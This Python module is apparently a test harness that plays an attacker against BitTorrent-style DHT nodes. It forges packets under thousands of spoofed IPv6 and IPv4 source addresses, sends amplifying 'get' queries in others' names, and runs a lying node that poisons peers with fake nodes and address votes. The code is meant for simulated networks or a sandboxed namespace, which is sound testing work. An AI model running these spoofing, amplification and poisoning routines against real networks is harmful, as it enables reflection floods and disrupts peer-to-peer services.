"""Somebody who attacks DHT nodes by himself: packets made by hand, addresses by the thousand.

Nothing here comes from the package that is attacked. What he writes goes where the caller has it
go: into a simulated network, a machine without sockets, or, in a network namespace whose loopback
holds his prefixes (`with_prefixes`), a `ManySources` socket that writes under any of them.

    sources = addresses("2a02:db8:1::/48", networks=1_000, hosts=20)
    for data, source in forged(sources, target):
        send(data, source)

- `query` and `answer` make packets; `token_in` reads the token of one, `asked_in` what one asks.
- `addresses` names addresses of an IPv6 prefix, `sites` of many /48s; `ipv4_sites` of many /24s.
- `forged` are queries whose answers are the longest there are, each in another's name.
- `Liar` answers every query: with votes for an address, and with nodes of his own.
"""

from __future__ import annotations

import ipaddress
import itertools
import os
import random
import shlex
import socket
import struct
import threading
from collections.abc import Iterable, Iterator, Sequence
from typing import Any

IPV6_FREEBIND = 78
_PKTINFO = struct.Struct("=16sI")

Source = tuple[str, int]


# Packets


def bencoded(value: Any) -> bytes:
    """Bytes, integers, lists and dictionaries of bytes."""
    if isinstance(value, bytes):
        return b"%d:%b" % (len(value), value)
    if isinstance(value, int):
        return b"i%de" % value
    if isinstance(value, list):
        return b"l" + b"".join(map(bencoded, value)) + b"e"
    return b"d" + b"".join(bencoded(k) + bencoded(value[k]) for k in sorted(value)) + b"e"


def query(
    name: str, *, t: bytes, node_id: bytes, read_only: bool = False, **arguments: Any
) -> bytes:
    """A query; the arguments by name."""
    top = {
        b"t": t,
        b"y": b"q",
        b"q": name.encode(),
        b"a": {b"id": node_id, **{key.encode(): value for key, value in arguments.items()}},
    }
    return bencoded(top | {b"ro": 1} if read_only else top)


def answer(t: bytes, node_id: bytes, *, seen: Source | None = None, **fields: Any) -> bytes:
    """An answer; `seen` is where its sender sees whom it answers."""
    body = {b"id": node_id, **{key.encode(): value for key, value in fields.items()}}
    top = {b"t": t, b"y": b"r", b"r": body}
    return bencoded(top if seen is None else top | {b"ip": compact(seen)})


def compact(source: Source) -> bytes:
    """The 6 or 18 bytes of an address."""
    return ipaddress.ip_address(source[0]).packed + source[1].to_bytes(2, "big")


def field(packet: bytes, name: bytes) -> bytes | None:
    """The byte string under a name, wherever the name stands in a packet; None if it does not."""
    _, found, rest = packet.partition(b"%d:%b" % (len(name), name))
    length, colon, body = rest.partition(b":")
    return body[: int(length)] if found and colon and length.isdigit() else None


def token_in(packet: bytes) -> bytes:
    """The token that an answer brings."""
    token = field(packet, b"token")
    assert token is not None
    return token


def asked_in(packet: bytes) -> bytes | None:
    """The transaction of a query that somebody sent us; None for an answer or an error."""
    if not packet.endswith(b"1:y1:qe"):
        return None
    length, _, body = packet.rpartition(b"1:t")[2].partition(b":")
    return body[: int(length)]


# Addresses


def addresses(prefix: str, *, networks: int = 1, hosts: int = 1, port: int = 6881) -> list[Source]:
    """Addresses of an IPv6 prefix: `hosts` of each of so many /64s, the /64s in turn."""
    first = int(ipaddress.IPv6Network(prefix).network_address)
    return [
        (str(ipaddress.IPv6Address(first + (network << 64) + host)), port)
        for host in range(1, hosts + 1)
        for network in range(networks)
    ]


def sites(
    prefix: str, count: int, *, networks: int = 1, hosts: int = 1, port: int = 6881
) -> list[Source]:
    """The same of so many /48s."""
    first = int(ipaddress.IPv6Network(prefix).network_address)
    each = [
        addresses(
            f"{ipaddress.IPv6Address(first + (number << 80))}/48",
            networks=networks, hosts=hosts, port=port,
        )
        for number in range(count)
    ]  # fmt: skip
    return [source for row in zip(*each, strict=True) for source in row]


def ipv4_sites(count: int, *, hosts: int = 1, port: int = 6881) -> list[Source]:
    """Addresses of so many /24s from 21.0.0.0 on, the /24s in turn."""
    first = int(ipaddress.IPv4Address("21.0.0.0"))
    return [
        (str(ipaddress.IPv4Address(first + (number << 8) + host)), port)
        for host in range(1, hosts + 1)
        for number in range(count)
    ]


# Attacks


def forged(
    sources: Sequence[Source], target: bytes, *, count: int | None = None, seed: int = 1
) -> Iterator[tuple[bytes, Source]]:
    """Gets of what is stored under a target, each under another id, in the names of `sources`."""
    chance = random.Random(seed)
    for number, source in enumerate(itertools.islice(itertools.cycle(sources), count)):
        t = number.to_bytes(4, "big")
        yield query("get", t=t, node_id=chance.randbytes(20), target=target), source
        if count is None and number + 1 == len(sources):
            return


class Liar:
    """A node at an address of the attacker's. It answers every query as he likes it.

    seen: what it says of where the asker is. crowd: nodes (id, address) that it names.
    """

    def __init__(
        self,
        node_id: bytes,
        *,
        seen: Source | None = None,
        crowd: Iterable[tuple[bytes, Source]] = (),
        token: bytes = b"tokn",
    ) -> None:
        self.node_id, self.seen, self.token = node_id, seen, token
        named = [(one, compact(source)) for one, source in crowd]
        self._nodes = b"".join(one + at for one, at in named if len(at) == 6)
        self._nodes6 = b"".join(one + at for one, at in named if len(at) == 18)

    def said(self, packet: bytes) -> bytes | None:
        """What it answers to a packet; None if that asks nothing."""
        t = asked_in(packet)
        if t is None:
            return None
        return answer(
            t,
            self.node_id,
            seen=self.seen,
            token=self.token,
            nodes=self._nodes,
            nodes6=self._nodes6,
        )


# Real sockets


def with_prefixes(command: Sequence[str], *prefixes: str, host: str) -> list[str]:
    """The command in a network namespace whose loopback has these prefixes, and one host.

    Nothing in it reaches any other machine. It needs `unshare`, `ip` and a kernel that permits it.
    """
    setup = ["ip link set lo up", f"ip -6 addr add {host}/128 dev lo nodad"]
    setup += [f"ip -6 route add local {prefix} dev lo" for prefix in prefixes]
    user = [] if os.geteuid() == 0 else ["--map-root-user"]
    script = "; ".join([*setup, shlex.join(["exec", *command])])
    return ["unshare", "--net", *user, "sh", "-ec", script]


class ManySources:
    """A UDP socket that writes under any address of its machine, and counts what comes back."""

    def __init__(self, port: int) -> None:
        self._socket = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        self._socket.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
        self._socket.bind(("::", port))
        self.sent = self.got = 0
        self.last = b""
        threading.Thread(target=self._receive, daemon=True).start()

    def send(self, data: bytes, source: str, to: Source) -> None:
        """Write under an address."""
        packed = _PKTINFO.pack(ipaddress.IPv6Address(source).packed, 0)
        control = [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, packed)]
        self.sent += self._socket.sendmsg([data], control, 0, to)

    def _receive(self) -> None:
        while True:
            try:
                self.last = self._socket.recv(4_096)
            except OSError:
                return
            self.got += len(self.last)

    def close(self) -> None:
        self._socket.close()
